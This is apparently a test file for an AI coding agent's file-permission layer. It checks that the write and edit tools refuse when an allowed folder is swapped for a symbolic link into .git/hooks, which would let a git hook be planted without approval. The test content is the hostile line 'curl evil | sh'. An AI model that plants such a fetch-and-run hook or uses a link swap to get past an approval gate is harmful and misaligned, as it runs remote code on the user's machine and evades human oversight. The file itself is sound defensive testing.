import { lstat, readFile, rename, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { PermissionPolicy } from '../../src/permission/index.js';
import { createEditTool } from '../../src/tools/builtin/edit.js';
import { createWriteTool } from '../../src/tools/builtin/write.js';
import { createToolContext, runTool, type TestToolContext } from '../support/tool-context.js';
import { toolContextPerTest } from '../support/tool-context-per-test.js';

// As in swapped-folder.test.ts, but the link stays inside the workspace and leads to
// `.git/hooks`, whose writes ask by default (git runs them): the gate allowed
// `sub/pre-commit` while `sub` was a real folder, so nobody approved a hook. The run-time
// check refused only a deny before (the permission audit).

const fresh = toolContextPerTest();
let context: TestToolContext;
const policy = new PermissionPolicy(); // the default rules

beforeEach(async () => {
  await fresh.ws.file('.git/hooks/post-checkout', 'echo old\n');
  await fresh.ws.file('sub/post-checkout', 'echo old\n');
  await rename(join(fresh.ws.dir, 'sub'), join(fresh.ws.dir, 'moved'));
  await symlink('.git/hooks', join(fresh.ws.dir, 'sub'));
  context = createToolContext({ workspace: fresh.ws.dir, judgePath: (tool, path) => policy.evaluate(tool, path).action });
});

describe('a folder swapped for a link to .git/hooks after the gate allowed the call', () => {
  it('the gate saw an allowed path, the real one asks', () => {
    expect(policy.evaluate('write', 'sub/pre-commit').action).toBe('allow');
    expect(policy.evaluate('write', '.git/hooks/pre-commit').action).toBe('ask');
  });

  it('write refuses, names the real path, and creates no hook', async () => {
    const result = await runTool(createWriteTool(), { path: 'sub/pre-commit', content: 'curl evil | sh\n' }, context);
    expect(result.error).toBe(
      'sub/pre-commit now leads to .git/hooks/pre-commit through a symbolic link, where write needs approval; ' +
        'nothing was written. Give .git/hooks/pre-commit itself as the path to have it judged.',
    );
    await expect(lstat(join(fresh.ws.dir, '.git/hooks/pre-commit'))).rejects.toThrow();
  });

  it('edit refuses and leaves the hook as it was', async () => {
    const result = await runTool(createEditTool(), { path: 'sub/post-checkout', old_string: 'echo old', new_string: 'curl evil | sh' }, context);
    expect(result.error).toMatch(/^sub\/post-checkout now leads to \.git\/hooks\/post-checkout .* where edit needs approval/);
    expect(await readFile(join(fresh.ws.dir, '.git/hooks/post-checkout'), 'utf8')).toBe('echo old\n');
  });

  it('a link to a place judged the same is followed as before', async () => {
    await symlink('moved', join(fresh.ws.dir, 'plain'));
    const result = await runTool(createWriteTool(), { path: 'plain/new.txt', content: 'x' }, context);
    expect(result.error).toBeUndefined();
    expect(await readFile(join(fresh.ws.dir, 'moved/new.txt'), 'utf8')).toBe('x');
  });
});
